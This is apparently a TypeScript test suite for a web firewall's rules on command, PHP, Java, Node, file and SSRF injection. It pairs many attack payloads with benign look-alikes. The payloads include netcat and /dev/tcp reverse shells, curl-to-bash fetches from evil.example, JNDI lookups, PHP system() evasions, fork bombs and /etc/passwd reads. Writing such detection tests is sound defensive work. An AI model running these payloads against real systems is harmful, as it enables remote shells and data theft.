import { test } from 'node:test';
import assert from 'node:assert/strict';
import { everywhere, inspect, type Req } from './helpers.js';

// Command, file, PHP, Java, Node and SSRF classes added for the CRS 930–944 families: each class has real payloads
// (attacks at the default paranoia) and benign look-alikes that must stay below the threshold.

const ATTACKS: Record<string, string[]> = {
  'shell quoting and expansion evasions': [
    "'wh'oami", "'i'fconfig", '"w"get http://evil.example/x', 'c\\url evil.example', '\\ls -la', "ti''me curl evil.example",
    'una$$me -a', 'www.example.com;c$!at /et$!c/pas$!swd', 'x;c$_at /etc/hostname', 'pi``ng 127.0.0.1', 'pi$()ng 127.0.0.1', 'c\\\nat /etc/passwd',
  ],
  'prefix commands and interpreters': ['nohup who', 'strace id', 'sudo -u www-data id', 'echo "id" | tr x o | sh #', 'curl -s evil.example/x | bash', '$SHELL -c "id"', '${BASH} -i'],
  'brace expansion': ['{,ifconfig}', '{,ifconfig,eth0}', '{l,-lh}s', 'c{a,oun}t /etc/hostname', '{,ip,a}', '{,$"whoami",}'],
  'reverse shells and redirection': ['d=/dev;(sh)0>$d/tcp/203.0.113.9/777', '>/tmp/payload', '>> /etc/cron.d/job'],
  'Windows cmd and PowerShell': ['i`e`x (iwr http://evil.example/a)', '&("i"+"ex") "calc"', '.("{0}{1}" -f "ie","x") calc', '$env:comspec /c whoami', '%COMSPEC:~-7,1%', 'set x=c& set y=md& call %x%%y%','c^m^d /c who^ami', '& p^owershell -enc SQBFAFgA','IF red==red echo test', 'if (1) equ (1) echo hey', 'if [AA] == [AA] echo same', 'if not "A%1" == "A" (', ';iwmi -class Win32_process -name Create -ArgumentList cmd', 'Invoke-WebRequest -Uri http://evil.example/a.ps1', 'bcdboot /r file.txt', 'image.jpg&bcdboot/r file.txt', 'cmd/c whoami', 'echo | $x', 'FOR %_ IN (a,b,c) DO cmd', 'set /p x=</tmp/x'],
  'more binaries': [';htop', '&aptitude', 'zstdcat /var/log/app.zst', 'bsdtar -xf /tmp/x.tar', 'lwp-download http://evil.example/x'],
  'mail protocol commands': ['\r\nMAIL FROM:<a@b.example>', '\nRCPT TO:<postmaster@b.example>', '\nEHLO evil.example', '\r\na001 EXAMINE INBOX', '\r\nA283 SEARCH TEXT "x"', '\r\nd store 2 +FLAGS (\\Deleted)', '\nRETR 123', '\nAPOP user 7d0a3bd8e5b2abcfb3e256633c23b891', '\r\nabc SEARCH SINCE 1-Feb-2024'],
  'PHP calls and evasions': [
    'system(whoami)', 'exec()', 'Please run phpinfo() on the box now', 'exec #comment\n (blah)', 'touch/*a\nb*/()', 'checkdate/*x*/()', 'FOOgzinflate()', 'curl_init()', '"system"(ls);', '(system)(ls);',
    "define('x', 'sys' . 'tem');(x)/* c */('uname');", "(z)[0][0]('uname');", '$__[$_[1]](7)', '$_aB_4c[@5]/*wat*/[@d] ()', '$ {@_.__}(31);', '$a //x\n()',
    '[php]echo "test"', '(sy.(st).em)(@id)', "array_map('system',array('id'))", "usort($a, 'assert')", '<?xml :fputCSV($f, array("a"));',
    'C:11:"ArrayObject":21:{x:i:0;a:0:{};m:a:0:{}}', '$_=${_GET}', 'require_once "http://evil.example/a.txt";', 'new ReflectionFunction("system")',
    'chr(115).chr(121).chr(115)', 'putenv("LD_PRELOAD=/tmp/x.so")', "('pa'.'ss'.'thru')('id')", '{php}test{/php}', 'ssh2.sftp://user:pass@example.com:22/x',
  ],
  'Java': ['java.Runtime', 'java.evil.ProcessBuilder', 'rO0ABXNy', 'AKztAAVzcg==', 'AACs7QAFc3I=', '${jndi:ldap&#00000000000000000000000058;//evil.example/a}'],
  'Node, Ruby and Perl': ['while(Infinity);', 'while(this)', 'while(new Date);', 'while(!NaN)', 'process[mainModule', 'Process.spawn("id")', 'IO.popen("id")', "@{[system 'id']}", '{"x":"$7:Module:prototype:_compile"}'],
  'SSRF spellings': ['http:127.0.0.1', 'http:/2852039166', 'http:0xA9FEA9FE', 'http:[::ffff:a9fe:a9fe]', 'http://google.com:80 &@127.0.0.1:22/# @google.com:80/', 'https://metadata.packet.net/userdata'],
  'files': ['/../etc/hostname', 'jar:http://evil.example/b.zip!/a.class', 'www.example.com;c$@at+/et$@c/pas$@swd', "x;cat /e't'c/pa's'swd"],
  'variables as commands and characters': [
    ';$u wget evil.example/x', '|$a cat notes.txt', 'n$u\\c$u -lvp 4444', 'g=nc;$g evil.example 80', 'c1=c;c2=a;c3=t;$c1$c2$c3 notes.txt', 'a=/ec;b=ho;$a$b hi', "$'\\167\\150\\157\\141\\155\\151'", '$0 -c id',
    '${PATH:0:1}', 'cat ${HOME%/*}', '$((7*6))', '$[2+2]', 'echo ${x//a/b}',
  ],
  'command chains': [';id #', ';x=id;$x', ';mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f', "bash<<<$(base64 -d<<<Y2F0IC9ldGMvaG9zdG5hbWU=)", '127.0.0.1; sleep 10', 'test.txt;ls', ';/bin/ca? /etc/pass??', '|/usr/bin/wh*mi', 'John (`whoami`)', '`id`, `whoami`', 'x `cat /etc/hostname`', 'John Smith `whoami`', 'Smith `whoami`', 'x`whoami`', 'abc`uname -a`','whoami;00', 'id & whoami', 'uname -a & whoami', 'whoami;','127.0.0.1 | id', 'example.com;w', 'socat tcp:203.0.113.9:80 exec:sh',';date -f secrets.txt', ';flock -u /', 'http://evil.example/x.php;lwp-download http://evil.example/a.jpg;perl a.jpg;rm -rf a.jpg'],
  'fork bombs, functions, netcat shells, sqlite3 dot-commands': [
    'f(){ f|f& };f', 'bomb() { bomb | bomb & }; bomb', 'x(){ x()|x(); }; x', 'r(){ curl -s evil.example/a|sh; };r', 'nc 203.0.113.9 4444 -e /bin/bash',
    'nc -e /bin/sh 203.0.113.9 4444', 'x; ncat 203.0.113.9 443 --sh-exec id', "1');\n.shell id", '1;.sh whoami', ';."system" id', 'x;\n.databases', 'cat+/et*/*wd',
    ';+cat+/e\'t\'*/pa\'?s\'wd', 'alias +g+ ls=id',
  ],
  'command lines: evasions, English commands with options, Windows paths': [
    "kill '-'9 1", "ls -'l'a /tmp", 'rm "-"rf /tmp/x', 'ping`` 203.0.113.9', 'ping$() 203.0.113.9', 'pi<()ng 203.0.113.9', 'ping -c 3 203.0.113.9', 'perf --version',
    'set -o history', 'll /var/www/', "'ll' /var/www/", 'sort -k 2 /etc/group', 'cd /root', '|vi (x', '&w (x', 'powershell C:\\windows\\system32\\notepad.exe', ';rmt-tar', '\nQUIT', '\r\nDATA',
  ],
  'globs and shell escapes': ['{/?s?/?i?/c?t,}', '/?i?/c?t notes.txt', 'cat /et*/*wd', 'x; tail -n 5 /v?r/l?g/*', 'find /etc -name passwd -exec cat {} +', 'tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec=sh', "awk 'BEGIN {system(\"id\")}'"],
};

/** Requests whose payload is not a plain field value. */
const REQUESTS: [string, Req][] = [
  ['PHP session file upload', { headers: { 'x-filename': 'sess_d8ew88tqmabdcokhumchy8htqm' } }],
  ['PHP upload with a space', { headers: { 'x-filename': 'photo. php' } }],
  ['PHP double extension', { headers: { 'x-filename': 'test.php.jpg' } }],
  ['JSP upload with a space', { headers: { 'x-filename': 'shell. jsp' } }],
  ['secrets in a hidden directory', { path: '/.fabric/fabric.env' }],
  ['log file by URL', { path: '/wp-content/error.log' }],
  ['referer that is a file path', { headers: { referer: '/etc/shadow' } }],
  ['user agent that is a bare admin command', { headers: { 'user-agent': 'visudo' } }],
  ['user agent that is a command line', { headers: { 'user-agent': 'set -o history' } }],
  ['session id from another site', { query: 'weblogicsession=abc123', headers: { referer: 'https://attacker.example/' } }],
  ['property path from __proto__', { headers: { cookie: 'prefs=__proto__.isAdmin=1' } }],
  ['ORM lookup on a password', { body: JSON.stringify({ password__startswith: 'a' }), contentType: 'application/json' }],
  ['SSRF with ideographic dots', { query: `u=${encodeURIComponent('http://169\u3002254\u3002169\u3002254/')}` }],
  ['Java stream magic re-encoded as UTF-8', { body: 'test=\xc2\xac\xc3\xad\x00\x05\r\n', contentType: 'application/x-www-form-urlencoded' }],
];

const BENIGN: string[] = [
  // contractions that unquote to a command word (i'd → id): a lone apostrophe does not split a word
  "I'd like 'em both", "I'd rather 'cat' than dog", "we'd say 'who' knows",
  "O'keefe's", 'Size: 8"x11"', "That's two \"O\"s in goose", "''that's the joke''.jpeg", "'curl' is failing on my laptop", 'who is on call', 'time who knows',
  'sudo make me a sandwich', 'cat dog', 'Pick {red,green,blue}', 'file{1,2}.txt', 'Regex a{2,3}', 'Price $5 and $-2 discount', 'C:\\Users\\me\\Desktop',
  'if x == y then z', 'Get-started guide', 'add-ons -- reviews', 'Data shows growth\nList 3 items\nQuit smoking', 'Meeting notes\n1 copy of the report\n2 select the plan',
  'Hi,\nUSER guide is outdated', 'the system(s) we use', 'Section 5(a)(1) applies', 'see (a)(b) below', 'console log shows nothing',
  'java.util.List is an interface', 'Runtime error in java.lang.RuntimeException', 'while we wait', 'while (i < 10) i++', 'process the refund',
  'localhost is fine for dev', '> /tmp is full, please clean it', 'name__icontains', 'https://example.com/help', 'jar of cookies: 3',
  '../guide/setup.md', 'Routes like /api/*/users are matched first', 'How do I find files older than 7 days and delete them with -exec rm in a cron job?', '/api/v1/users/../users/42', 'Use ${PORT:-3000}', 'Total: ${total}', 'JSONPath $[0].name or $[-1:] or $[*].id', 'price=5;$price total', 'price=5;$price', 'id # comment', 'a=1;b=2;$a$b', 'We use $((a+b)) in our bash scripts per the style guide', 'Regards,\nJohn\n--\nSent from my phone', 'See chapter 5 (system calls) for exec() and fork()',
  'Set LD_PRELOAD to the path of the library you want loaded first, e.g. LD_PRELOAD=/usr/lib/libfoo.so when debugging', "require('http')", 'include "header.php";', 'Name | ID', 'Use `curl` or `wget`', 'use `ls` and `cat`', '`ls` shows nothing', 'Please paste the output of `uname -a`', 'Salt & Pepper', 'Cat & Dog', 'Python & Django', 'Grep & Sed', 'Salt; Pepper', 'Cat | Dog', 'python & django', 'file.txt | sort please',
  'Mix: salt & ("pepper" + "oil")', 'Use `n`t for a tab in PowerShell', '$env:PATH is set', 'my %HOME% dir', 'a | b | more', 'socat is a relay tool', '$0 is the script name',
  'myfunction(){ echo hello }', 'render() { return this.html }', '(Mr.Smith)(2)', '(e.g.)(see below)', 'x^2 + y^2 /c', "array_map('strtoupper', $names)", "t('system', 'dark')", '<?xml-stylesheet href="a.xsl"?>',
  'Saved photo.jpg. Then I uploaded notes.txt, report.pdf. Can you check?', 'The {php} tag is deprecated',
  'ping 127.0.0.1', 'dig example.com', 'dig example.com returns NXDOMAIN', 'whois google.com', 'at /home/bob', 'head -to-head', 'Set -o history', 'more -ish', 'Hi\nQUIT', 'It is a\nsanity check (since it is cheap)', 'set -up', 'write -up', 'check -in', 'say \'-\' twice',
  // README and issue-tracker markdown: spans on heading, quote and list lines, closing backticks, calls in spans
  '# Installation\n> `npm install --save @types/node`', '### `yarn bootstrap`', '* `man sh`\n* `man bash`\n* `man 3 fnmatch`', '- In node.js: `npm install natural-compare-lite`',
  '`diff(v1, v2)`: returns the difference', 'Install NPM modules needed for development:', 'Set `inlineValidators` to `true` to include the generated functions',
  "`npm install base64-js` and `var base64js = require('base64-js')`", 'It is included as a\nsanity check (since `x` uses `y` under the hood)',
  'works with the postgres tools (`psql`, `pg_dump`, `pg_restore`) and node', '> type: `(node: object) => string[]`', 'deprecated and changed to `require(\'fs\').constants` which does not browserify.',
  'The package provides two functions, `realRequire` and `realImport`,\nwhich can be used in scenarios where tools like bundlers change things.',
  'Options: `strict` / `export` syntax checks',
  'If the flag is truthy, this function additionally checks whether\n`id` is a Keyword', 'If not a function, `type` option is passed directly to the library',
  'Installation is done using the\n[`npm install` command](https://docs.npmjs.com/getting-started):',
  'and/or', 'tcp/ip', 'input/output', 'cat/s and dog/s', 'node.js & python', 'Node.js & Python', 'example.com; more info', 'files in /usr/bin/* are binaries',
  'function f() { return f() || g() }', 'count(){ return count() && 1 }', 'class A { load() { this.load() } }', 'nc is netcat; run nc -h for help',
  'Note that nc -e /bin/sh is disabled in the OpenBSD netcat we ship', '.output', '.tables { width: 100% }', 'In sqlite3 list them with .tables; .schema shows the DDL', 'C++/CLI or C#',
];

for (const [name, payloads] of Object.entries(ATTACKS)) {
  test(`${name}: attack payloads are flagged`, () => {
    for (const p of payloads) {
      for (const r of everywhere(p)) {
        const res = inspect(r);
        assert.ok(res.attack, `not flagged: ${JSON.stringify(p)} (${JSON.stringify(r).slice(0, 80)}) → ${JSON.stringify(res.findings)}`);
      }
    }
  });
}

test('payloads outside field values: uploads, URL paths, referers, cookies, keys', () => {
  for (const [name, r] of REQUESTS) {
    const res = inspect(r);
    assert.ok(res.attack, `${name} not flagged → ${JSON.stringify(res.findings)}`);
  }
});

test('benign look-alikes of the new classes are not flagged at the default paranoia', () => {
  for (const b of BENIGN) {
    for (const r of everywhere(b)) {
      const res = inspect(r);
      assert.ok(!res.attack, `flagged: ${JSON.stringify(b)} → ${JSON.stringify(res.findings)}`);
    }
  }
  // file names whose first word is a command stay clean at paranoia 2 as well
  for (const b of ['export (1).csv', '/Users/priya/Downloads/export (3).csv']) for (const r of everywhere(b)) assert.ok(!inspect(r, { paranoia: 2 }).attack, b);
  // user agents that name an HTTP client or a product without a version
  for (const ua of ['curl', 'python', 'Java', 'okhttp', 'Wget', 'node', 'Test agent', 'ansible', 'monitoring-probe', 'cargo', 'certbot', 'composer', 'rsync', 'vagrant', 'openssl', 'mysql']) assert.ok(!inspect({ headers: { 'user-agent': ua } }).attack, ua);
  // ordinary URL paths and hidden directories servers legitimately serve
  for (const path of ['/.well-known/openid-configuration', '/.netlify/functions/checkout', '/api/v1/logs/error', '/docs/errors.html']) assert.ok(!inspect({ path }).attack, path);
  // one ordinary ORM lookup is a filter API; it counts only at paranoia 2 (and alone does not block there)
  assert.ok(!inspect({ query: 'name__icontains=bob' }).attack);
  assert.ok(!inspect({ query: 'name__icontains=bob' }, { paranoia: 2 }).attack);
  // a long ORM relation walk is high (4): it blocks from paranoia 2
  const walk: Req = { query: 'created_by__departments__employees__user__username__startswith=p' };
  assert.ok(!inspect(walk).attack && inspect(walk, { paranoia: 2 }).attack);
  // the same session id with the site's own referer is a normal link
  assert.ok(!inspect({ query: 'weblogicsession=abc123', headers: { referer: 'https://api.example.com/login' } }).attack);
});
